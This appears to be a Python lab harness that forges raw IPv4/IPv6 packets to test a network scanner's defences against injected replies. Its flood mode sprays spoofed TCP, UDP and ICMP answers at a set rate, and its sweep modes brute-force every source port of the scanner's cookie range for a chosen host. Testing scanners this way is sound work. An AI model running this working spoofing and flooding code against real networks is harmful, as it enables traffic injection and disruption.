"""Forged replies, sent from the lab's third-party namespace (run there as a script).

    python forger.py flood IFACE DST_MAC SCANNER_ADDR NET_START N_HOSTS RATE SECONDS KINDS TCP_PORTS UDP_PORTS
    python forger.py sweep IFACE DST_MAC SCANNER_ADDR TARGET UDP_PORTS
    python forger.py sweep6 IFACE DST_MAC SCANNER_ADDR6 TARGET6 UDP_PORTS

flood: random replies at RATE packets/s for SECONDS, of the KINDS given (comma-separated: tcp =
SYN-ACKs and RSTs, udp = UDP answers, quote = ICMP port/admin unreachables quoting a UDP or TCP
probe, icmp = echo and timestamp replies), claiming to come from the prefix's hosts and scanned
ports, to random source ports of the scanner's cookie range (32768-65535), every cookie field
random. sweep: the targeted attack on one host: for each UDP port, a UDP answer to every one of
the 32768 cookie source ports and an ICMP port unreachable quoting each (the IP id random;
sweep6: the same over IPv6, the quoted flow label random).
Prints the number of frames sent. Frames are built with struct: the point is the rate."""
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src: int, dst: int, proto: int, payload: bytes, ident: int = 0) -> bytes:
    head = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + len(payload), ident, 0, 57, proto, 0, src, dst)
    return head[:10] + struct.pack("!H", csum(head)) + head[12:] + payload


class Forger:
    def __init__(self, iface, dst_mac, scanner, seed):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((iface, 0))
        self.eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex("020000ee0001") + b"\x08\x00"
        self.scanner = scanner
        self.rng = random.Random(seed)
        self.sent = 0

    def send(self, ip_packet: bytes) -> None:
        self.sock.send(self.eth + ip_packet)
        self.sent += 1

    def sport(self) -> int:
        return self.rng.randrange(32768, 65536)

    def tcp(self, host, port):
        flags = self.rng.choice((0x12, 0x14, 0x04))                       # SYN-ACK, RST-ACK, RST
        seg = struct.pack("!HHIIBBHHH", port, self.sport(), self.rng.getrandbits(32), self.rng.getrandbits(32),
                          0x50, flags, self.rng.choice((0, 1024, 65535)), self.rng.getrandbits(16), 0)
        return ipv4(host, self.scanner, 6, seg, self.rng.getrandbits(16))

    def udp(self, host, port, sport=None):
        # the shape of an answer (a DNS-like header first), its id and every other byte random
        payload = self.rng.randbytes(self.rng.choice((0, 12, 30, 48)))
        dgram = struct.pack("!HHHH", port, self.sport() if sport is None else sport, 8 + len(payload),
                            self.rng.getrandbits(16)) + payload
        return ipv4(host, self.scanner, 17, dgram, self.rng.getrandbits(16))

    def quote(self, host, port, proto=17, sport=None):
        """An ICMP error from the host quoting a probe of ours to host:port, cookies guessed."""
        if proto == 17:
            l4 = struct.pack("!HHHH", self.sport() if sport is None else sport, port,
                             self.rng.choice((8, 25, 56)), self.rng.getrandbits(16))
        else:
            l4 = struct.pack("!HHI", self.sport(), port, self.rng.getrandbits(32))
        quoted = ipv4(self.scanner, host, proto, l4, self.rng.getrandbits(16))
        code = 3 if proto == 17 else self.rng.choice((1, 3, 13))
        icmp = struct.pack("!BBHI", 3, code, 0, 0) + quoted
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        return ipv4(host, self.scanner, 1, icmp, self.rng.getrandbits(16))

    def echo(self, host):
        kind = self.rng.choice((0, 14))
        body = struct.pack("!HH", self.rng.getrandbits(16), self.rng.getrandbits(16)) + self.rng.randbytes(12)
        icmp = struct.pack("!BBH", kind, 0, 0) + body
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        return ipv4(host, self.scanner, 1, icmp, self.rng.getrandbits(16))


def ipv6(src: bytes, dst: bytes, nh: int, payload: bytes, flow: int = 0) -> bytes:
    return struct.pack("!IHBB16s16s", 0x60000000 | flow, len(payload), nh, 57, src, dst) + payload


def icmp6_sum(src: bytes, dst: bytes, icmp: bytes) -> bytes:
    pseudo = src + dst + struct.pack("!IxxxB", len(icmp), 58)
    return icmp[:2] + struct.pack("!H", csum(pseudo + icmp)) + icmp[4:]


def sweep6(f, scanner6, host6, udp_ports):
    f.eth = f.eth[:12] + b"\x86\xdd"
    rng = f.rng
    for port in udp_ports:
        for sport in range(32768, 65536):
            payload = rng.randbytes(rng.choice((0, 12, 30)))
            dgram = struct.pack("!HHHH", port, sport, 8 + len(payload), rng.getrandbits(16)) + payload
            f.send(ipv6(host6, scanner6, 17, dgram))
            quoted = ipv6(scanner6, host6, 17, struct.pack("!HHHH", sport, port, rng.choice((8, 25, 56)),
                                                           rng.getrandbits(16)), rng.getrandbits(20))
            icmp = icmp6_sum(host6, scanner6, struct.pack("!BBHI", 1, 4, 0, 0) + quoted)
            f.send(ipv6(host6, scanner6, 58, icmp))


def flood(f, start, n_hosts, rate, seconds, kinds, tcp_ports, udp_ports):
    makers = []
    for kind in kinds:
        if kind == "tcp" and tcp_ports:
            makers.append(lambda h: f.tcp(h, f.rng.choice(tcp_ports)))
        elif kind == "udp" and udp_ports:
            makers.append(lambda h: f.udp(h, f.rng.choice(udp_ports)))
        elif kind == "quote":
            if udp_ports:
                makers.append(lambda h: f.quote(h, f.rng.choice(udp_ports), 17))
            if tcp_ports:
                makers.append(lambda h: f.quote(h, f.rng.choice(tcp_ports), 6))
        elif kind == "icmp":
            makers.append(f.echo)
    t0 = time.monotonic()
    total = int(rate * seconds)
    while f.sent < total:
        due = t0 + f.sent / rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        for _ in range(32):
            f.send(f.rng.choice(makers)(start + f.rng.randrange(n_hosts)))


def sweep(f, host, udp_ports):
    for port in udp_ports:
        for sport in range(32768, 65536):
            f.send(f.udp(host, port, sport))
            f.send(f.quote(host, port, 17, sport))


def main(argv):
    mode, iface, dst_mac, scanner = argv[:4]
    if mode == "sweep6":
        f = Forger(iface, dst_mac, 0, seed=None)
        sweep6(f, socket.inet_pton(socket.AF_INET6, scanner), socket.inet_pton(socket.AF_INET6, argv[4]),
               [int(p) for p in argv[5].split(",")])
        print(f.sent)
        return
    f = Forger(iface, dst_mac, int.from_bytes(socket.inet_aton(scanner), "big"), seed=None)
    ports = lambda text: [int(p) for p in text.split(",") if p]
    if mode == "flood":
        start, n_hosts, rate, seconds, kinds, tcp_ports, udp_ports = argv[4:11]
        flood(f, int(start), int(n_hosts), float(rate), float(seconds), kinds.split(","), ports(tcp_ports),
              ports(udp_ports))
    else:
        sweep(f, int.from_bytes(socket.inet_aton(argv[4]), "big"), ports(argv[5]))
    print(f.sent)


if __name__ == "__main__":
    main(sys.argv[1:])
